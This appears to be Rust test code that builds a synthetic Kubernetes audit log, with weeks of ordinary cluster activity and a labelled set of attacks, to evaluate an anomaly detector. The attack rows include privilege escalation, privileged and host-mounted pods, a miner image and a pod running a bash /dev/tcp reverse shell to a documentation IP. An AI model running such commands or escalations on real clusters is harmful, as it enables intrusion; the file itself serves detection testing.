//! A made cluster to measure the model of habits on: weeks of people, pipelines and operators at work, a change of
//! season (an upgrade, a new application, a new administrator), and attacks by principals that have habits.
//!
//! Made traffic is cleaner than a real cluster's; the recorded benign trace beside the repository is the counterweight.

use serde_json::{Value, json};
use vedette_audit::time::{SECOND, parse_rfc3339, to_rfc3339_millis};

/// Seconds of a day.
pub(crate) const DAY: u64 = 86_400;

/// Days of a soak, and the day on which the season changes.
pub(crate) const DAYS: u64 = 35;
pub(crate) const CHANGE: u64 = 21;

/// A generator of numbers that gives the same ones for the same seed (Steele and Vigna's SplitMix64).
pub(crate) struct Dice(u64);

impl Dice {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15))
    }

    pub(crate) fn below(&mut self, most: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (z ^ (z >> 31)) % most.max(1)
    }

    pub(crate) fn one_in(&mut self, n: u64) -> bool {
        self.below(n) == 0
    }
}

/// A request.
#[derive(Clone, Debug)]
pub(crate) struct Call {
    pub(crate) at: u64,
    pub(crate) user: String,
    pub(crate) groups: Vec<String>,
    pub(crate) verb: &'static str,
    pub(crate) resource: &'static str,
    pub(crate) sub: &'static str,
    pub(crate) namespace: String,
    pub(crate) name: String,
    pub(crate) agent: String,
    pub(crate) address: String,
    pub(crate) object: Value,
    /// Name of the attack that it is part of.
    pub(crate) attack: Option<&'static str>,
}

impl Call {
    /// The request as a line of an audit log.
    pub(crate) fn line(&self, number: usize) -> String {
        let slash = if self.sub.is_empty() { "" } else { "/" };
        let stamp = to_rfc3339_millis(self.at * SECOND + (number as u64 % 1000) * 1_000_000);
        let exec = self.sub == "exec";
        json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": format!("a{number}"),
            "stage": if exec { "ResponseStarted" } else { "ResponseComplete" },
            "verb": self.verb,
            "requestURI": format!("/api/{}/{}{slash}{}/{}", self.namespace, self.resource, self.sub, self.name),
            "user": {"username": self.user, "groups": self.groups},
            "sourceIPs": [self.address], "userAgent": self.agent,
            "objectRef": {"resource": self.resource, "subresource": self.sub, "namespace": self.namespace, "name": self.name},
            "responseStatus": {"code": if exec { 101 } else if self.verb == "create" { 201 } else { 200 }},
            "requestObject": self.object,
            "requestReceivedTimestamp": stamp, "stageTimestamp": stamp,
        })
        .to_string()
    }
}

fn account(namespace: &str, name: &str) -> String {
    format!("system:serviceaccount:{namespace}:{name}")
}

fn call(at: u64, user: &str, verb: &'static str, resource: &'static str, namespace: &str) -> Call {
    let people = !user.starts_with("system:");
    Call {
        at,
        user: user.to_owned(),
        groups: vec!["system:authenticated".to_owned()],
        verb,
        resource,
        sub: "",
        namespace: namespace.to_owned(),
        name: "x".to_owned(),
        agent: if people {
            "kubectl/v1.35.1 (linux/amd64)"
        } else {
            "Go-http-client/2.0"
        }
        .to_owned(),
        address: if people { "10.8.0.5" } else { "10.0.1.7" }.to_owned(),
        object: Value::Null,
        attack: None,
    }
}

/// A workload with this image.
pub(crate) fn workload(kind: &str, image: &str, more: &Value) -> Value {
    let mut container = json!({"name": "c", "image": image});
    let mut spec = json!({"containers": []});
    for (key, value) in more.as_object().into_iter().flatten() {
        match key.as_str() {
            "volumes" => spec["volumes"] = value.clone(),
            _ => container[key] = value.clone(),
        }
    }
    spec["containers"] = json!([container]);
    if kind == "Pod" {
        json!({"kind": kind, "spec": spec})
    } else {
        json!({"kind": kind, "spec": {"template": {"spec": spec}}})
    }
}

fn binding(kind: &str, role: &str) -> Value {
    json!({"kind": kind, "roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [{"kind": "User", "name": "u"}]})
}

/// First second of the soak: a Monday.
pub(crate) fn start() -> u64 {
    parse_rfc3339(b"2026-03-02T00:00:00Z").unwrap() / SECOND
}

const APPS: [&str; 8] = [
    "shop", "pay", "search", "mail", "auth", "media", "stock", "ads",
];
const PEOPLE: [(&str, &str); 7] = [
    ("ada", "platform"),
    ("bea", "platform"),
    ("cem", "dev"),
    ("dan", "dev"),
    ("eva", "dev"),
    ("fay", "dev"),
    ("gil", "support"),
];

/// Everyday work of one seed, in order of time.
pub(crate) fn soak(seed: u64) -> Vec<Call> {
    let mut dice = Dice::new(seed);
    let mut calls = Vec::new();
    for day in 0..DAYS {
        let midnight = start() + day * DAY;
        let later = day >= CHANGE;
        let version = if later { "v1.36.0" } else { "v1.35.1" };
        let weekday = day % 7 < 5;
        operators(&mut dice, midnight, &mut calls);
        let mut apps: Vec<&str> = APPS.to_vec();
        if later {
            apps.push("rent");
        }
        for app in &apps {
            pipeline(&mut dice, midnight, app, weekday, &mut calls);
        }
        if weekday {
            people(&mut dice, midnight, later, version, &apps, &mut calls);
        }
        if day == CHANGE {
            // The new application is brought up by hand.
            let at = midnight + 10 * 3600;
            let mut new = call(at, "ada", "create", "namespaces", "");
            "rent".clone_into(&mut new.name);
            calls.push(new);
            let mut grant = call(at + 60, "ada", "create", "rolebindings", "rent");
            grant.object = binding("RoleBinding", "edit");
            calls.push(grant);
        }
    }
    for call in &mut calls {
        if call.groups.len() == 1
            && let Some((_, group)) = PEOPLE
                .iter()
                .chain(&[("hal", "platform")])
                .find(|(name, _)| *name == call.user)
        {
            call.groups.insert(0, (*group).to_owned());
        }
    }
    calls.sort_by_key(|call| call.at);
    calls
}

/// Controllers of the platform: they read secrets all day, everywhere.
fn operators(dice: &mut Dice, midnight: u64, calls: &mut Vec<Call>) {
    for hour in (0..24).step_by(3) {
        let at = midnight + hour * 3600 + dice.below(3600);
        let certs = account("cert-manager", "cert-manager");
        calls.push(call(at, &certs, "list", "secrets", ""));
        let vault = account("external-secrets", "external-secrets");
        for app in APPS {
            calls.push(call(at + 7, &vault, "get", "secrets", app));
            if dice.one_in(6) {
                calls.push(call(at + 8, &vault, "update", "secrets", app));
            }
        }
        for app in APPS {
            calls.push(call(
                at + 30,
                &account("monitoring", "prometheus"),
                "list",
                "pods",
                app,
            ));
            calls.push(call(
                at + 31,
                &account(app, "app"),
                "get",
                "configmaps",
                app,
            ));
            if dice.one_in(4) {
                calls.push(call(at + 32, &account(app, "app"), "get", "secrets", app));
            }
        }
    }
}

/// A pipeline deploys its application some times a day, now and then with an image that is new.
fn pipeline(dice: &mut Dice, midnight: u64, app: &str, weekday: bool, calls: &mut Vec<Call>) {
    let rounds = if weekday {
        2 + dice.below(4)
    } else {
        dice.below(2)
    };
    for _ in 0..rounds {
        let at = midnight + 8 * 3600 + dice.below(10 * 3600);
        let user = account("ci", &format!("deploy-{app}"));
        let side = dice.below(6);
        let image = if dice.one_in(60) {
            format!("registry.example/{app}/new-{}", dice.below(1000))
        } else {
            format!(
                "registry.example/{app}/{}",
                ["web", "api", "job", "db", "cache", "web"][side as usize]
            )
        };
        let mut deploy = call(at, &user, "patch", "deployments", app);
        deploy.object = workload("Deployment", &image, &json!({}));
        "helm/v3.15.1".clone_into(&mut deploy.agent);
        calls.push(deploy);
        let mut look = call(at + 5, &user, "list", "pods", app);
        "helm/v3.15.1".clone_into(&mut look.agent);
        calls.push(look);
        let mut keep = call(at + 6, &user, "list", "secrets", app);
        "helm/v3.15.1".clone_into(&mut keep.agent);
        calls.push(keep);
    }
}

fn people(
    dice: &mut Dice,
    midnight: u64,
    later: bool,
    version: &str,
    apps: &[&str],
    calls: &mut Vec<Call>,
) {
    let mut all = PEOPLE.to_vec();
    if later {
        all.push(("hal", "platform"));
    }
    for (name, group) in all {
        for _ in 0..dice.below(25) {
            let at = midnight + 8 * 3600 + dice.below(9 * 3600);
            // Who develops has two applications, who runs the platform has all.
            let app = match group {
                "dev" => {
                    APPS[(name.len() + name.as_bytes()[0] as usize + dice.below(2) as usize)
                        % APPS.len()]
                }
                _ => apps[dice.below(apps.len() as u64) as usize],
            };
            let mut done = match (group, dice.below(30)) {
                ("platform", 0) => {
                    let mut grant = call(at, name, "create", "rolebindings", app);
                    grant.object = binding("RoleBinding", ["view", "edit"][dice.below(2) as usize]);
                    grant
                }
                ("platform", 1) => {
                    let mut made = call(at, name, "create", "clusterroles", "");
                    made.object = json!({"kind": "ClusterRole", "rules": [{"verbs": ["get"], "resources": ["pods"]}]});
                    made
                }
                ("platform", 2 | 3) | ("dev", 2..=4) => {
                    let mut exec = call(at, name, "get", "pods", app);
                    exec.sub = "exec";
                    exec
                }
                ("platform", 4 | 5) => call(at, name, "get", "secrets", app),
                ("platform", 6) => call(at, name, "list", "secrets", "kube-system"),
                ("platform", 7) => {
                    let mut debug = call(at, name, "create", "pods", app);
                    debug.object = workload("Pod", "registry.example/tools/netshoot", &json!({}));
                    debug
                }
                ("dev", 5) => call(at, name, "get", "secrets", app),
                (_, 8..=12) => call(at, name, "get", "deployments", app),
                _ => call(at, name, "list", "pods", app),
            };
            done.agent = format!("kubectl/{version} (linux/amd64)");
            done.address = format!("10.8.{}.{}", dice.below(2), dice.below(200));
            calls.push(done);
        }
    }
}

/// An attack: name; who; verb; resource; subresource; namespace; object.
type Row = (
    &'static str,
    String,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    Value,
);

/// Attacks by principals with habits, after public definitions (the projects' names beside each), one a day from `day` on.
pub(crate) fn attacks(day: u64) -> Vec<Call> {
    let privileged = json!({"securityContext": {"privileged": true}});
    let host = json!({
        "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
        "volumeMounts": [{"name": "h", "mountPath": "/host"}],
    });
    let shell = json!({"command": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"]});
    let app = |name: &str| account(name, "app");
    let rows: Vec<Row> = vec![
        (
            "app account lists all secrets (Stratus, Leonidas)",
            app("shop"),
            "list",
            "secrets",
            "",
            "",
            Value::Null,
        ),
        (
            "app account reads secrets of another application",
            app("mail"),
            "list",
            "secrets",
            "",
            "pay",
            Value::Null,
        ),
        (
            "app account executes in a pod (KubeHound POD_EXEC)",
            app("media"),
            "create",
            "pods",
            "exec",
            "media",
            Value::Null,
        ),
        (
            "developer executes in kube-system (GuardDuty tester)",
            "dan".to_owned(),
            "get",
            "pods",
            "exec",
            "kube-system",
            Value::Null,
        ),
        (
            "developer binds cluster-admin (Stratus)",
            "eva".to_owned(),
            "create",
            "clusterrolebindings",
            "",
            "",
            binding("ClusterRoleBinding", "cluster-admin"),
        ),
        (
            "app account binds admin in its namespace (KubeHound ROLE_BIND)",
            app("ads"),
            "create",
            "rolebindings",
            "",
            "ads",
            binding("RoleBinding", "admin"),
        ),
        (
            "support makes a role with everything (Leonidas)",
            "gil".to_owned(),
            "create",
            "clusterroles",
            "",
            "",
            json!({"kind": "ClusterRole", "rules": [{"verbs": ["*"], "resources": ["*"], "apiGroups": ["*"]}]}),
        ),
        (
            "pipeline starts a privileged pod (Stratus)",
            account("ci", "deploy-pay"),
            "create",
            "pods",
            "",
            "pay",
            workload("Pod", "alpine", &privileged),
        ),
        (
            "pipeline mounts the node's root (Stratus hostPath)",
            account("ci", "deploy-auth"),
            "create",
            "daemonsets",
            "",
            "auth",
            workload("DaemonSet", "registry.example/auth/web", &host),
        ),
        (
            "pipeline deploys a miner",
            account("ci", "deploy-ads"),
            "patch",
            "deployments",
            "",
            "ads",
            workload("Deployment", "docker.io/x/xmrig", &json!({})),
        ),
        (
            "developer deploys a reverse shell (tester)",
            "fay".to_owned(),
            "create",
            "pods",
            "",
            "search",
            workload("Pod", "debian", &shell),
        ),
        (
            "monitoring account starts a pod (KubeHound POD_CREATE)",
            account("monitoring", "prometheus"),
            "create",
            "pods",
            "",
            "monitoring",
            workload("Pod", "alpine", &json!({})),
        ),
        (
            "platform's stolen credentials read secrets from elsewhere",
            "bea".to_owned(),
            "list",
            "secrets",
            "",
            "pay",
            Value::Null,
        ),
        (
            "insider with usual tools reads a usual secret",
            "ada".to_owned(),
            "get",
            "secrets",
            "",
            "shop",
            Value::Null,
        ),
    ];
    rows.into_iter()
        .enumerate()
        .map(
            |(at, (attack, user, verb, resource, sub, namespace, object))| {
                let mut attacked = call(
                    start() + (day + at as u64 % 7) * DAY + 11 * 3600 + at as u64 * 60,
                    &user,
                    verb,
                    resource,
                    namespace,
                );
                attacked.sub = sub;
                attacked.object = object;
                attacked.attack = Some(attack);
                if let Some((_, group)) = PEOPLE.iter().find(|(name, _)| *name == user) {
                    attacked.groups.insert(0, (*group).to_owned());
                }
                match attack {
                    a if a.contains("from elsewhere") => {
                        "203.0.113.50".clone_into(&mut attacked.address);
                        "curl/8.5.0".clone_into(&mut attacked.agent);
                    }
                    a if a.contains("app account") => {
                        "kubectl/v1.30.0 (linux/amd64)".clone_into(&mut attacked.agent);
                    }
                    _ => {}
                }
                attacked
            },
        )
        .collect()
}
